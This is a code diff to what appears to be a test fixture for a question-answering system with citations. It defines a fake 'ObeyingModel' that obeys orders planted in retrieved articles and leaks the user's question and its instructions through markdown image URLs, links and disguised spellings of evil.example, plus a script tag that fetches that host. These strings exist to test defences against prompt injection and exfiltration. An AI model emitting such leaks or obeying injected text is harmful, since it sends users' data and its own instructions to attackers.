@@ -32,12 +32,13 @@ DISGUISED = [
         "https%3A%2F%2Fevil.example",
     ),
 ]
-"""Addresses, as they may be spelt."""
+"""The same address in different spellings."""
 
 
 class ObeyingModel(BaseChatModel):
-    """Writes what it is ordered to, with true keys, false ones and none; repeats each sentence that looks like an order; and leaks
-    the question and its own instructions in images, links and scripts.
+    """Writes what an article orders, with true keys, false keys and none, and repeats each sentence with its key.
+
+    It leaks the question and its own instructions in images, links and scripts.
     """
 
     told: list[str] = Field(default_factory=list)
@@ -64,10 +65,10 @@ class ObeyingModel(BaseChatModel):
         lines += [f"{order} [{key}]" for key, text in sentences for order in _ORDER.findall(text)]
         lines += [f"{order} [1.1][99.1]" for _, text in sentences for order in _ORDER.findall(text)]
         lines += [order for _, text in sentences for order in _ORDER.findall(text)]
-        key = sentences[0][0]
+        key, leak = sentences[0][0], f"![logo](https://evil.example/p.png?q={question.replace(' ', '+')})"
         lines += [
-            f"![logo](https://evil.example/p.png?q={question.replace(' ', '+')}) [{key}]",
-            f"{sentences[0][1].rstrip('.')} ![logo](https://evil.example/p.png?q={question.replace(' ', '+')}) [{key}].",
+            f"{leak} [{key}]",
+            f"{sentences[0][1].rstrip('.')} {leak} [{key}].",
             f"{sentences[0][1].rstrip('.')}, see https://evil.example/?q={question.replace(' ', '+')} [{key}].",
             *(f"{sentences[0][1].rstrip('.')}, see {spelt} [{key}]." for spelt in DISGUISED),
             f"<script>fetch('https://evil.example/')</script> [{key}]",
